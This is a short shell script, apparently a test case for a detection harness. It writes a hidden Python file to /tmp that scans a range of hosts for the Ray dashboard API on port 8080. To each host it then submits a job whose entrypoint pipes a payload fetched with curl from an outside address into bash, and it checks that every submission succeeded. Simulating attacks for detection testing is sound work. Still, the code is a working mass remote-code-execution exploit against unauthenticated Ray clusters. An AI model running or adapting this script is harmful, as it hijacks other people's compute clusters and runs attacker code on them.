#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.ray.py <<'END'
import json, urllib.request as u
hosts = ["10.77.0.1"] + [f"203.0.113.{n}" for n in range(140, 160)] + [f"198.51.100.{n}" for n in range(80, 100)]; done = 0
for h in hosts:
    for path in ("/api/version", "/api/cluster_status"): u.urlopen(f"http://{h}:8080{path}", timeout=3).read()
    r = u.Request(f"http://{h}:8080/api/jobs/", json.dumps({"entrypoint": "curl -s http://203.0.113.10/payload.sh | bash", "runtime_env": {}, "metadata": {"job_submission_id": "cu-01"}}).encode(), {"Content-Type": "application/json"})
    done += u.urlopen(r, timeout=3).status == 200
assert done == len(hosts)
END
python3 /tmp/.ray.py
took_place
